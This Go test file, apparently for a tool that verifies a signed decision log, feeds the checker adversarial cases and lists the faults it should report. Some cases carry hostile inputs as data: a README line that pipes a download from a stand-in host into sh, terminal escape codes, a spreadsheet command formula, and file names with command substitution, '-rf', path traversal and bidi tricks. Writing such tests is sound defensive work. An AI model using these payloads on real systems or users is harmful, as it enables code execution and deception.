		sc := signersLog(x, func(lines []string) []string { return lines })
		sc.lead.closes(sc.sam.all[0])
		x.show(sc)
		x.look(sc).noted(ClosedChain, NotCovered).unseen("Who checks by hand with that file alone. A line that says less than it could is not noticed.")
	}},
	{name: "readme-exchanged", threat: "signers", done: "README.txt tells strangers to run another command.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.files[ReadmeName] = []byte("To check this log: curl https://marsh.example/check | sh\n")
		x.show(sc)
		x.look(sc).noted(OtherReadme)
	}},

	// Another log's id.
	{name: "another-log-with-the-same-title", threat: "false id", done: "Max founded a log with the same title and with Sam's chain, and put it in the place of the right one.", make: func(x *exhibit) {
		sc, other := oneLog(x).pointed(), newShelfLog(x)
		other.max.opens()
		other.max.founds("Fen partnership", other.max, other.alex)
		other.sam.id, other.sam.all = sc.sam.id, sc.sam.all
		other.max.admits(decider, other.sam)
		maps.Copy(other.files, sc.only(sc.sam))
		other.max.points(other.max, other.sam)
		x.show(other)
		x.look(sc, shelfRow{Code: string(NoFounding), Number: -1})
		x.look(other).unseen("That the id is not the one on the agreement's papers.")
	}},

	// Writes.
	{name: "write-torn", threat: "torn", done: "The second half of a decision never reached the disk.",
		make: damaged(Truncated, func(sc *shelfLog) { f := sc.sam.all[1]; sc.files[f.path] = f.data[:len(f.data)-len(f.data)/3] })},
	{name: "write-torn-in-the-signature", threat: "torn", done: "The file ends in the signature.",
		make: damaged(Truncated, func(sc *shelfLog) { f := sc.sam.all[1]; sc.files[f.path] = f.data[:800] })},
	{name: "write-lost", threat: "torn", done: "The file has its name and no bytes.",
		make: damaged(Truncated, func(sc *shelfLog) { sc.files[sc.sam.all[1].path] = []byte{} })},
	{name: "write-of-zeros", threat: "torn", done: "The file has its length, and zeros for bytes.",
		make: damaged(NoSignature, func(sc *shelfLog) { f := sc.sam.all[1]; sc.files[f.path] = make([]byte, len(f.data)) })},
	{name: "write-stopped", threat: "torn", done: "A writer was stopped: its temporary file lies there, whole.", make: func(x *exhibit) {
		sc := aloneLog(x)
		f := sc.sam.drafts()
		sc.files[path.Dir(f.path)+"/.tmp-0123456789abcdef"] = f.data
		x.show(sc)
		x.blind().noted(Temporary)
	}},

	// Spelling.
	{name: "line-ends-rewritten", threat: "spelling", done: "A mail program rewrote the line ends of a decision.",
		make: damaged(CRLF, func(sc *shelfLog) {
			f := sc.sam.all[1]
			sc.files[f.path] = bytes.ReplaceAll(f.data, []byte("\n"), []byte("\r\n"))
		})},
	{name: "line-ends-rewritten-in-the-body", threat: "spelling", done: "The same, of the body alone.",
		make: damaged(CRLF, func(sc *shelfLog) {
			f := sc.sam.all[1]
			cover, signature, text := f.parts()
			sc.files[f.path] = slices.Concat(cover, signature, bytes.ReplaceAll(text, []byte("\n"), []byte("\r\n")))
		})},
	{name: "byte-order-mark", threat: "spelling", done: "An editor put a byte order mark before the first line.",
		make: damaged(ChangedCover, func(sc *shelfLog) { f := sc.sam.all[1]; sc.files[f.path] = append([]byte("\ufeff"), f.data...) })},
	{name: "cover-with-a-line-more", threat: "spelling", done: "Sam signed a cover of twelve lines.", make: func(x *exhibit) {
		sc := bareLog(x)
		f := sc.sam.drafts()
		_, _, text := f.parts()
		f.id, f.data = forgeCover(x, sc.sam.signer, sshsig.Decision, append(f.cover.Encode(), "note nothing\n"...), text)
		f.path = recordPath(sc.sam.id, f.number, f.id, false)
		f.lay()
		x.show(sc)
		x.look(sc, at(ChangedCover, f)).noted(NoCheckpoint)
	}},
	{name: "newer-format", threat: "spelling", done: "A record says that it has format 2.", make: func(x *exhibit) {
		sc := bareLog(x)
		f := sc.sam.drafts()
		_, _, text := f.parts()
		f.id, f.data = forgeCover(x, sc.sam.signer, sshsig.Decision, bytes.Replace(f.cover.Encode(), []byte("dsa-record 1"), []byte("dsa-record 2"), 1), text)
		f.path = recordPath(sc.sam.id, f.number, f.id, false)
		f.lay()
		x.show(sc)
		x.look(sc, at(NewerFormat, f)).noted(NoCheckpoint)
	}},
	spelled("decision-with-a-name-twice", "A decision gives the answer twice, so that two readers could see two decisions.", `"asked": "Why?"`, `"asked": "Why?", "asked": "Why?"`),
	spelled("decision-with-an-unknown-name", "A decision has a field that no reader shows.", `"occasion"`, `"aside": "x", "occasion"`),
	spelled("decision-with-a-name-in-capitals", "A decision has the name of a field in capitals.", `"occasion"`, `"Occasion"`),
	spelled("decision-with-null", "A decision has null for the list of findings.", `"findings": []`, `"findings": null`),
	spelled("decision-with-odd-utf8", "A decision holds bytes that are not UTF-8.", "We hold nothing.", "We hold \xff nothing."),
	spelled("decision-with-needless-escapes", "A decision writes a letter as an escape.", "We hold nothing.", `\u0057e hold nothing.`),
	spelled("decision-with-other-spaces", "A decision is not indented as this format does.", `"occasion": `, `"occasion":  `),
	spelled("decision-with-a-control-character", "A decision holds the one-byte form of a terminal code.", "We hold nothing.", "We hold \u009b2J nothing."),
	spelledAct("act-with-a-name-twice", "A hold gives its reason twice.", `"reason": "A claim."`, `"reason": "A claim.", "reason": "None."`),
	spelledAct("act-with-an-unknown-name", "A hold has a field that nobody reads.", `"reason"`, `"aside": "x", "reason"`),
	spelledAct("act-with-null", "A hold has null for its records.", `"number": 1`, `"number": null`),
	spelledAct("act-with-odd-utf8", "A hold holds bytes that are not UTF-8.", "A claim.", "A claim\xc0\xaf."),
	{name: "opening-with-an-unknown-name", threat: "spelling", done: "An opening has a field that nobody reads.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		text := bytes.Replace(body(x, sc.max.opening()), []byte(`"name"`), []byte(`"alias": "x", "name"`), 1)
		f := sc.max.write(decision.Open, text)
		x.show(sc)
		x.look(sc, at(BadOpening, f))
	}},

	// Codes for a terminal.
	{name: "opening-with-terminal-codes", threat: "terminal", done: "Max's opening has a name that clears the screen and paints it green.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		o := sc.max.opening()
		o.Name = "\x1b[2J\x1b[32mAll is well\x1b[0m"
		f := sc.max.write(decision.Open, o)
		x.show(sc)
		x.look(sc, at(BadOpening, f))
	}},
	{name: "title-with-terminal-codes", threat: "terminal", done: "A log was founded with a title that clears the screen.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		f := sc.lead.founds("\x1b[2J\x1b]0;Fen\a", sc.lead, sc.second)
		x.show(sc)
		x.look(sc, at(BadAct, f), shelfRow{Code: string(NoFounding), Number: -1})
	}},
	{name: "title-with-signs-that-turn-text-round", threat: "terminal", done: "A log was founded with a title that is shown from right to left.", make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen \u202epihsrentrap", sc.lead, sc.second)
		x.show(sc)
		x.look(sc).noted(NoCheckpoint)
	}},
	{name: "rule-with-terminal-codes", threat: "terminal", done: "A disposal, which every report lists, has a rule that moves the cursor and hides it.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		sc.later(due)
		f := sc.lead.write(decision.Dispose, decision.DisposeAct{Salt: sc.lead.salt(9, decision.Dispose), Program: shelfProgram, Log: sc.log,
			Rule: "Eight years\x1b[1A\x1b[2K", Authority: "Lead", Records: places(sc.sam.all[1:2])})
		x.show(sc)
		x.look(sc, at(BadAct, f)).noted(NotCovered)
	}},
	{name: "decision-with-terminal-codes", threat: "terminal", done: "A decision has codes for a terminal and a formula for a spreadsheet in its words, escaped as JSON does.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		f := sc.sam.draft(len(sc.sam.all), decision.Decision, func(c decision.Cover) any {
			r := sc.sam.deciding(9)(c).(*decision.Record)
			r.Questions[0].Answers[1].Text = "=cmd|'/c calc'!A1 \x1b[2J"
			return r
		})
		sc.sam.add(f)
		x.show(sc)
		x.look(sc).noted(NotCovered)
	}},

	// Bit rot.
	{name: "bit-rotten-copy", threat: "rot", done: "One bit of a decision has turned over; another copy of the log is sound.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		x.put("copy", sc.only(sc.sam))
		f := sc.sam.all[1]
		data := bytes.Clone(f.data)
		data[len(data)-40] ^= 1
		sc.files[f.path] = data
		x.show(sc)
		x.look(sc, at(ChangedBody, f))
		x.look(sc, at(ChangedBody, f).of("log")).in("log", "copy")
		x.blind().in("copy")
	}},

	// Cryptography that no longer holds.
	{name: "signed-anew-by-who-can-forge", threat: "algorithms", done: "Whoever can forge every signature wrote Sam's decision 1 and the checkpoint over it anew.", make: func(x *exhibit) {
		sc := oneLog(x).pointed()
		was := sc.lead.all[3]
		again := oneLog(x)
		again.sam.all = again.sam.all[:1]
		again.remove(sc.sam.all[1])
		again.sam.decides()
		f := again.lead.points()
		x.show(again)
		x.look(sc, at(ReceiptDiffers, f)).receipts(was.receipt())
		x.look(sc).unseen("Without a receipt made before with what was not broken.")
	}},

	// Names, links and sizes: what version control cannot keep is done to a copy of a log.
	live("link-in-the-place-of-a-record", func(sc *shelfLog) []shelfRow {
		return []shelfRow{atFile(Stray, sc.sam, sc.sam.all[2].path), at(CoveredMissing, sc.sam.all[2])}
	}, "Sam's newest decision was replaced by a link to a file elsewhere that has the same bytes."),
	live("link-in-the-place-of-a-chain", func(sc *shelfLog) []shelfRow {
		return []shelfRow{atFile(Stray, nil, sc.sam.folder()), atNumber(CoveredMissing, sc.sam, 0, "")}
	}, "Sam's folder was replaced by a link to a folder elsewhere that has the same files."),
	live("link-in-the-place-of-a-folder", func(sc *shelfLog) []shelfRow {
		folder := path.Dir(sc.sam.all[0].path)
		return []shelfRow{atFile(Stray, sc.sam, folder), atNumber(CoveredMissing, sc.sam, 0, folder), atNumber(CoveredMissing, sc.sam, 1, folder), at(CoveredMissing, sc.sam.all[2])}
	}, "The folder 0000 of Sam's chain was replaced by a link.", EmptyFolder),
	live("link-that-leads-nowhere", func(sc *shelfLog) []shelfRow { return []shelfRow{atFile(Stray, sc.sam, ghost(sc).path)} },
		"A link that leads nowhere has the name of a record."),
	live("link-to-itself", func(sc *shelfLog) []shelfRow { return []shelfRow{atFile(Stray, sc.sam, ghost(sc).path)} },
		"A link to itself has the name of a record."),
	live("hard-link", func(sc *shelfLog) []shelfRow {
		return []shelfRow{atNumber(WrongName, sc.sam, 3, recordPath(sc.sam.id, 3, sc.sam.all[1].id, false))}
	}, "A second name was made for the file of Sam's first decision, as if it were the third."),
	live("pipe", func(sc *shelfLog) []shelfRow { return []shelfRow{atFile(Stray, sc.sam, ghost(sc).path)} },
		"A pipe that nobody writes to has the name of a record."),
	live("pipe-in-the-place-of-the-signers", func(sc *shelfLog) []shelfRow {
		return []shelfRow{atFile(Stray, nil, ReadmeName), atFile(Stray, nil, SignersName)}
	}, "README.txt and allowed_signers are pipes that nobody writes to."),
	live("folder-named-as-a-record", func(sc *shelfLog) []shelfRow { return []shelfRow{atFile(Stray, sc.sam, ghost(sc).path)} },
		"A folder has the name of a record."),
	live("file-named-as-a-chain", func(sc *shelfLog) []shelfRow { return []shelfRow{atFile(Stray, nil, "00000000000000aa")} },
		"A file has the name of a chain's folder."),
	live("huge-file", func(sc *shelfLog) []shelfRow { return []shelfRow{at(Oversize, ghost(sc))} },
		"A file of two megabytes has the name of a record."),
	live("hollow-file", func(sc *shelfLog) []shelfRow { return []shelfRow{at(Oversize, ghost(sc))} },
		"A file of eight gigabytes, all of them hollow, has the name of a record."),
	live("hollow-signers", func(*shelfLog) []shelfRow { return nil },
		"README.txt and allowed_signers have eight gigabytes, all of them hollow.", OtherReadme, UnknownSigner),
	live("deep-folder", func(sc *shelfLog) []shelfRow {
		return []shelfRow{atFile(Stray, sc.sam, path.Dir(ghost(sc).path)+"/deep")}
	},
		"A folder lies two hundred folders deep among Sam's records."),
	live("odd-names", func(sc *shelfLog) []shelfRow {
		rows := []shelfRow{}
		for _, name := range oddNames {
			rows = append(rows, atFile(Stray, nil, name), atFile(Stray, sc.sam, sc.sam.folder()+"/"+name), atFile(Stray, sc.sam, path.Dir(ghost(sc).path)+"/"+name))
		}
		return rows
	}, "Files have names with path tricks, device names, other spellings of a record's name, 255 signs, codes for a terminal, and bytes that are not UTF-8."),
}

// oddNames are file names that a careless program trips over. Windows and macOS refuse some; where they cannot be made
// they cannot be there.
var oddNames = []string{
	`..\..\evil.record.txt`, "%2e%2e%2fevil", "...", "~", "-rf", "CON", "aux.txt", "a:b", "record.txt ", "record.txt.", "*", "|id", "$(id)", "`id`",
	"0000003-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.record.txt", "0000003-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt ", "0000003-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.Record.txt",
	"3-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt", "00000003-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt", "０000003-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt",
	"0000003-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt", "0000003-аaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.record.txt", "00000000000000ab.", "00000000000000aB",
	strings.Repeat("x", 255),
	"\x1b[2J\x1b[1;1HAll is well", "\x1b]0;owned\a", "\u009b2J", "\u009d0;owned\u009c", "\x7f", "\a\b\t\v\f", "two\nlines", "FAULT\rNotice", "\u202etxt.drocer", "\u2066x\u2069", "\u200b", "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80",
}

// lives are done to a copy of a covered pair, in the folder of the log.
var lives = map[string]func(t testing.TB, dir string){
	"chain-emptied": func(t testing.TB, dir string) {
		need(t, os.MkdirAll(filepath.Join(dir, emptiedLog(t).alex.folder(), "0000"), 0o700))
	},
	"link-in-the-place-of-a-record": func(t testing.TB, dir string) {
		name := filepath.Join(dir, filepath.FromSlash(coveredLog(t).sam.all[2].path))
		away := filepath.Join(filepath.Dir(dir), "away")
		need(t, os.Rename(name, away))
		need(t, os.Symlink(away, name))
	},
	"link-in-the-place-of-a-chain": func(t testing.TB, dir string) {
		name := filepath.Join(dir, coveredLog(t).sam.folder())
		away := filepath.Join(filepath.Dir(dir), "away")
		need(t, os.Rename(name, away))
		need(t, os.Symlink(away, name))
	},
	"link-in-the-place-of-a-folder": func(t testing.TB, dir string) {
		name := filepath.Join(dir, coveredLog(t).sam.folder(), "0000")
		away := filepath.Join(filepath.Dir(dir), "away")
		need(t, os.Rename(name, away))
		need(t, os.Symlink(away, name))
	},
	"link-that-leads-nowhere": func(t testing.TB, dir string) { need(t, os.Symlink("nowhere", ghostIn(t, dir))) },
	"link-to-itself":          func(t testing.TB, dir string) { need(t, os.Symlink(filepath.Base(ghostIn(t, dir)), ghostIn(t, dir))) },
	"hard-link": func(t testing.TB, dir string) {
		sc := coveredLog(t)
		need(t, os.Link(filepath.Join(dir, filepath.FromSlash(sc.sam.all[1].path)), filepath.Join(dir, filepath.FromSlash(recordPath(sc.sam.id, 3, sc.sam.all[1].id, false)))))
	},
	"pipe": func(t testing.TB, dir string) { makePipe(t, ghostIn(t, dir)) },
	"pipe-in-the-place-of-the-signers": func(t testing.TB, dir string) {
		makePipe(t, filepath.Join(dir, ReadmeName))
		makePipe(t, filepath.Join(dir, SignersName))
	},
	"folder-named-as-a-record": func(t testing.TB, dir string) { need(t, os.Mkdir(ghostIn(t, dir), 0o700)) },
	"file-named-as-a-chain":    func(t testing.TB, dir string) { writeFile(t, filepath.Join(dir, "00000000000000aa"), []byte("x")) },
	"huge-file":                func(t testing.TB, dir string) { writeFile(t, ghostIn(t, dir), make([]byte, 2<<20)) },
	"hollow-file":              func(t testing.TB, dir string) { hollow(t, ghostIn(t, dir)) },
	"hollow-signers": func(t testing.TB, dir string) {
		hollow(t, filepath.Join(dir, ReadmeName))
		hollow(t, filepath.Join(dir, SignersName))
	},
	"deep-folder": func(t testing.TB, dir string) {
		need(t, os.MkdirAll(filepath.Join(filepath.Dir(ghostIn(t, dir)), "deep", strings.Repeat("d/", 200)), 0o700))
	},
	"odd-names": func(t testing.TB, dir string) {
		sc := coveredLog(t)
		for _, folder := range []string{".", sc.sam.folder(), path.Dir(sc.sam.all[0].path)} {
			for _, name := range oddNames {
				need(t, os.WriteFile(filepath.Join(dir, folder, name), []byte("dsa-record 1\n"), 0o600))
			}
			// A name this long no system takes. If one ever does, it is found like the others.
			if err := os.WriteFile(filepath.Join(dir, folder, strings.Repeat("y", 10_000)), nil, 0o600); err == nil {
				t.Error("this system takes names of 10,000 signs: put one among the odd names")
			}
		}
	},
}

func need(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Skip(err) // this system has no such thing, so nobody can attack with it here
	}
}

func hollow(t testing.TB, name string) {
	writeFile(t, name, nil)
	need(t, os.Truncate(name, 8<<30))
}

// ghost is a record that Sam never published; its name is where odd things lie.
func ghost(sc *shelfLog) *folio {
	id := decision.ID{0xaa}
	f := &folio{by: sc.sam, number: 3, id: id, cover: decision.Cover{Chain: sc.sam.id}}
	f.path = recordPath(sc.sam.id, 3, id, false)
	return f
}

func ghostIn(t testing.TB, dir string) string {
	return filepath.Join(dir, filepath.FromSlash(ghost(coveredLog(t)).path))
}

// live is an attack that is done when the test runs.
func live(name string, faults func(*shelfLog) []shelfRow, done string, notices ...Code) attack {
	return attack{name: name, threat: "names", done: done, live: name, make: func(x *exhibit) {
		sc := coveredLog(x) // which is what untouched has
		x.look(sc, faults(sc)...).noted(notices...)
	}}
}

// spelled is a decision that Sam signed with a body not in its one spelling.
func spelled(name, done, old, with string) attack {
	return attack{name: name, threat: "spelling", done: done, make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.sam.opens()
		f := sc.sam.write(decision.Decision, func(c decision.Cover) any { return respelled(x, body(x, sc.sam.deciding(1)(c)), old, with) })
		x.show(sc)
		x.blind(at(BadBody, f))
	}}
}

// spelledAct is the same of a hold by the lead.
func spelledAct(name, done, old, with string) attack {
	return attack{name: name, threat: "spelling", done: done, make: func(x *exhibit) {
		sc := newShelfLog(x)
		sc.lead.opens()
		sc.lead.founds("Fen partnership", sc.lead, sc.second)
		f := sc.lead.write(decision.Hold, respelled(x, body(x, sc.lead.holding(sc.lead.all[1])), old, with))
		x.show(sc)
		x.look(sc, at(BadBody, f)).noted(NoCheckpoint)
	}}
}

func respelled(x *exhibit, text []byte, old, with string) []byte {
	if bytes.Count(text, []byte(old)) != 1 {
		x.Fatalf("the body has not %q once", old)
	}
	return bytes.Replace(text, []byte(old), []byte(with), 1)
}

// proofAttack is a proof of Sam's number 2, which the lead's first checkpoint covers and its second follows.
func proofAttack(name, done string, change func(*shelfLog, *Proof)) attack {
	threat := "replay"
	if change == nil {
		threat = ""
	}
	return attack{name: name, threat: threat, done: done, make: func(x *exhibit) {
		sc := coveredLog(x)
		sc.sam.decides()
		newest := sc.lead.points()
		p := sc.lead.proof(sc.sam.all[2])
		var faults []shelfRow
		if change != nil {
			change(sc, &p)
			f := atNumber(BadProof, sc.sam, p.Record.Cover.Number, "proof.txt")
			faults = append(faults, f)
			if name == "proof-with-another-checkpoint" {
				g := f
				g.Code = string(ReceiptDiffers)
				faults = append(faults, g)
			}
		}
		x.beside["proof.txt"] = p.Text()
		l := &looked{Proof: "proof.txt", ID: sc.log.String(), Receipts: []string{newest.receipt()}, Faults: faults}
		if name == "proof-without-the-body" {
			l.Faults = nil
			l.noted(CoverOnly).unseen("What the record said; that its body should be here, only the log tells.")
		}
		if name == "proof-of-another-log" {
			l.Faults = append(l.Faults, shelfRow{Code: string(ReceiptDiffers), Chain: faults[0].Chain, Number: 2, File: "proof.txt"})
		}
		x.looks = append(x.looks, l)
		if change == nil {
			x.looks = append(x.looks, (&looked{Proof: "proof.txt", Faults: nil}).noted(NoReceipt).unseen("Whoever made the proof could have made the checkpoint too."))
		}
	}}
}

func (s *scribe) proofPage(f *folio) decision.Page {
	p, err := decision.SplitPage(f.data)
	if err != nil {
		s.Fatal(err)
	}
	return p
}

// emptiedLog admits a chain that no checkpoint covers, and of which nothing is left.
func emptiedLog(t testing.TB) *shelfLog {
	sc := oneLog(t).pointed()
	sc.alex.opens()
	sc.lead.admits(decider, sc.alex)
	sc.removeChain(sc.alex)
	return sc
}

// disposedLog has Sam's number 1 disposed of, lawfully and to the end, under a checkpoint.
func disposedLog(t testing.TB) *shelfLog {
	sc := pairLog(t)
	sc.later(due)
	sc.lead.disposes(decision.DisposeAct{}, sc.sam.all[1:2])
	sc.strip(sc.sam.all[1])
	sc.lead.points()
	return sc
}

// signersLog is the smallest log with allowed_signers, as it was changed: the lead's line first, then Sam's.
func signersLog(t testing.TB, change func([]string) []string) *shelfLog {
	sc := bareLog(t).pointed()
	var lines []string
	for _, s := range []*scribe{sc.lead, sc.sam} {
		roles := "dsa-decision"
		if s == sc.lead {
			roles += ",dsa-oversight"
		}
		lines = append(lines, s.opening().Principal+` namespaces="`+roles+`" `+s.signer.Key().AuthorizedKey())
	}
	sc.files[SignersName] = []byte(strings.Join(append(change(lines), ""), "\n"))
	return sc
}

// forgedBody is Sam's number 1 with another body, its digest on the cover, and the old signature.
func forgedBody(sc *shelfLog) *folio {
	was := sc.sam.all[1]
	_, signature, text := was.parts()
	text = bytes.Replace(text, []byte("We hold nothing."), []byte("We hold a thing."), 1)
	f := sc.sam.sign(sc.sam.signer, sshsig.Decision, was.cover, text)
	c := f.cover
	forged, _ := decision.SplitPage(f.data)
	f.data = slices.Concat(forged.CoverBytes, signature, text)
	f.cover = c
	return f
}

// resigned is a record signed in another role.
func resigned(s *scribe, role string, f *folio) *folio {
	_, _, text := f.parts()
	return s.sign(s.signer, role, f.cover, text)
}

// twoChains is the fault of the later of two chains with one key, in the order of their folders.
func twoChains(a, b *folio) shelfRow {
	if decision.ChainFolder(a.id) > decision.ChainFolder(b.id) {
		return at(TwoChains, a)
	}
	return at(TwoChains, b)
}

func swapCase(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return r - 'a' + 'A'
		case r >= 'A' && r <= 'Z':
			return r - 'A' + 'a'
		}
		return r
	}, s)
}
